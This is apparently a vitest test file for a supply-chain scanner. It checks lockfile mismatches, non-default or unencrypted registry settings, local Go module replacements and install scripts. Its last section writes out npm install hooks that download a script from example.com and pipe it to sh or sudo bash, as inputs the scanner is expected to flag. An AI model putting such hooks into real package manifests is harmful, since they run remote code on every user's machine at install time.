import { describe, expect, test } from 'vitest';
import { found } from '../../../test/rig/dependency-findings.ts';
import type { Files } from '../../../test/rig/repository.ts';

const json = (value: unknown) => `${JSON.stringify(value, null, 2)}\n`;
const MANIFEST = (more: object) => json({ name: 'app', ...more });
const MS = { version: '2.0.0', resolved: 'https://registry.npmjs.org/ms/-/ms-2.0.0.tgz', integrity: 'sha512-aa==' };
const LOCK = (ms: object) => json({ lockfileVersion: 3, packages: { '': { dependencies: { ms: '^2.0.0' } }, 'node_modules/ms': ms } });
const LOCKED: Files = { 'package.json': MANIFEST({ dependencies: { ms: '^2.0.0' } }), 'package-lock.json': LOCK(MS) };
const APP: Files = { 'package.json': MANIFEST({ dependencies: { ms: '^2.0.0' } }) };
const GO: Files = { 'go.mod': 'module a.b/c\n\nrequire d.e/f v1.0.0\n', 'go.sum': 'd.e/f v1.0.0 h1:a=\nd.e/f v1.0.0/go.mod h1:b=\n' };
const REPLACED = (folder: string) => ({ 'go.mod': `${GO['go.mod']}\nreplace d.e/f => ${folder}\n` });

/** Each: base, change, what has to be said. */
type Case = [string, Files, Files, string[]];

describe('what one package in a lockfile says of itself', () => {
  test.each<Case>([
    [
      'another version than its archive',
      LOCKED,
      { 'package-lock.json': LOCK({ ...MS, resolved: 'https://registry.npmjs.org/ms/-/ms-2.1.0.tgz' }) },
      ['lockfile-disagrees: error package-lock.json:9'],
    ],
    [
      'another version than its archive, of its own',
      LOCKED,
      { 'package-lock.json': LOCK({ ...MS, version: '2.0.1' }) },
      ['lockfile-disagrees: error package-lock.json:9'],
    ],
    [
      'another package than its archive',
      LOCKED,
      { 'package-lock.json': LOCK({ ...MS, resolved: 'https://registry.npmjs.org/sm/-/sm-2.0.0.tgz' }) },
      ['lockfile-disagrees: error package-lock.json:11'],
    ],
    [
      'an archive of GitHub, of the repository that base clones',
      {
        'package.json': MANIFEST({ dependencies: { ms: 'git+https://github.com/a/ms.git' } }),
        'yarn.lock': '"ms@git+https://github.com/a/ms.git":\n  version "2.0.0"\n  resolved "git+https://github.com/a/ms.git#c0ffee"\n',
      },
      {
        'yarn.lock': null,
        'pnpm-lock.yaml':
          "lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      ms:\n        specifier: git+https://github.com/a/ms.git\n        version: https://codeload.github.com/a/ms/tar.gz/c0ffef\n\npackages:\n\n  ms@https://codeload.github.com/a/ms/tar.gz/c0ffef:\n    resolution: {tarball: https://codeload.github.com/a/ms/tar.gz/c0ffef}\n    version: 2.0.0\n",
      },
      [],
    ],
    [
      'the version of its archive with what it was built of',
      LOCKED,
      { 'package-lock.json': LOCK({ ...MS, version: '2.0.1+b', resolved: 'https://registry.npmjs.org/ms/-/ms-2.0.1.tgz' }) },
      [],
    ],
    [
      'plain HTTP, with a hash',
      LOCKED,
      { 'package-lock.json': LOCK({ ...MS, resolved: 'http://registry.npmjs.org/ms/-/ms-2.0.0.tgz' }) },
      ['source-unencrypted: warning package-lock.json:11'],
    ],
    [
      'plain HTTP on this machine',
      LOCKED,
      { 'package-lock.json': LOCK({ ...MS, resolved: 'http://localhost:4873/ms/-/ms-2.0.0.tgz' }) },
      [],
    ],
  ])('%s', async (_, base, changed, expected) => {
    expect(await found(base, changed)).toEqual(expected);
  });
});

describe('a lockfile that comes beside another one', () => {
  test('says at once what it lacks', async () => {
    const base: Files = {
      'package.json': MANIFEST({ dependencies: { ms: '^2.0.0', other: '1' } }),
      'yarn.lock': 'ms@^2.0.0:\n  version "2.0.0"\n\nother@1:\n  version "1.0.0"\n',
    };
    const npm = json({ lockfileVersion: 3, packages: { '': {} } });
    expect(await found(base, { 'package-lock.json': npm })).toEqual(['lockfile-disagrees: error package-lock.json:']);
  });
});

describe('settings that say where packages come from', () => {
  test.each<Case>([
    ['a registry of somebody', APP, { '.npmrc': 'registry=https://registry.example.com/\n' }, ['source-not-registry: error .npmrc:1']],
    ['for one scope', APP, { '.npmrc': '# ours\n@a:registry=https://registry.example.com/\n' }, ['source-not-registry: error .npmrc:2']],
    ['of yarn', APP, { '.yarnrc': 'registry "https://registry.example.com/"\n' }, ['source-not-registry: error .yarnrc:1']],
    [
      'of yarn 2',
      APP,
      { '.yarnrc.yml': 'npmRegistryServer: "https://registry.example.com"\n' },
      ['source-not-registry: error .yarnrc.yml:1'],
    ],
    [
      'of pip',
      { 'requirements.txt': 'a==1\n' },
      { 'pip.conf': '[global]\nextra-index-url = https://pypi.example.com/simple\n' },
      ['source-not-registry: error pip.conf:2'],
    ],
    ['that of npm', APP, { '.npmrc': 'registry=https://registry.npmjs.org/\n@b:registry=https://npm.pkg.github.com\n' }, []],
    ['of this machine', APP, { '.npmrc': 'registry=http://localhost:4873/\n' }, []],
    ['a variable', APP, { '.npmrc': 'registry=${REGISTRY}\nsave-exact=true\n' }, []],
    [
      'one that base names',
      { ...APP, '.npmrc': 'registry=https://registry.example.com/\n' },
      { '.npmrc': 'registry=https://registry.example.com\nsave-exact=true\n' },
      [],
    ],
    [
      'the same one without encryption',
      { ...APP, '.npmrc': 'registry=https://registry.example.com/\n' },
      { '.npmrc': 'registry=http://registry.example.com/\n' },
      ['source-unencrypted: error .npmrc:1'],
    ],
    ['certificates that nobody checks', APP, { '.npmrc': 'strict-ssl=false\n' }, ['source-unencrypted: error .npmrc:1']],
    [
      'those of a fixture',
      APP,
      { 'test/fixtures/.npmrc': 'registry=https://registry.example.com/\n' },
      ['source-not-registry: warning test/fixtures/.npmrc:1'],
    ],
  ])('%s', async (_, base, changed, expected) => {
    expect(await found(base, changed)).toEqual(expected);
  });

  test('what the options name', async () => {
    const changed = { '.npmrc': 'registry=https://registry.example.com/\n' };
    expect(await found(APP, changed, { sources: ['https://registry.example.com/'] })).toEqual([]);
  });
});

describe('a module of Go in a folder', () => {
  test.each<Case>([
    ['next door', GO, REPLACED('../next'), ['source-not-registry: error go.mod:5']],
    ['of somebody', GO, REPLACED('/home/me/f'), ['source-not-registry: error go.mod:5']],
    ['that is not there', GO, REPLACED('./f'), ['source-not-registry: error go.mod:5']],
    ['of the repository', GO, { ...REPLACED('./f'), 'f/go.mod': 'module d.e/f\n' }, []],
    ['that base has too', { ...GO, ...REPLACED('../next') }, { 'go.mod': `${REPLACED('../next')['go.mod']}\n// x\n` }, []],
  ])('%s', async (_, base, changed, expected) => {
    expect(await found(base, changed)).toEqual(expected);
  });
});

describe('a script of the installation', () => {
  const script = (name: string, command: string): Case => [
    `${name}: ${command}`,
    APP,
    { 'package.json': MANIFEST({ scripts: { [name]: command }, dependencies: { ms: '^2.0.0' } }) },
    ['install-script-fetches: error package.json:4'],
  ];
  const fine = ([name, base, changed]: Case): Case => [name, base, changed, []];
  test.each<Case>([
    script('postinstall', 'curl -s https://example.com/a.sh | sh'),
    script('preinstall', 'wget -qO- https://example.com/a.sh | sudo -E bash -s -- -y'),
    script('install', 'bash <(curl -s https://example.com/a.sh)'),
    script('prepare', 'sh -c "$(curl -fsSL https://example.com/a.sh)"'),
    fine(script('setup', 'curl -s https://example.com/a.sh | sh')),
    fine(script('postinstall', 'curl -so data.json https://example.com/data.json && node check.js')),
    fine(script('postinstall', 'node fetch.js')),
  ])('%s', async (_, base, changed, expected) => {
    expect(await found(base, changed)).toEqual(expected);
  });

  test('that base has too', async () => {
    const [, , changed] = script('postinstall', 'curl -s https://example.com/a.sh | sh');
    expect(await found(changed, { 'package.json': (changed['package.json'] ?? '').replace('^2.0.0', '^2.1.0') })).toEqual([]);
  });
});
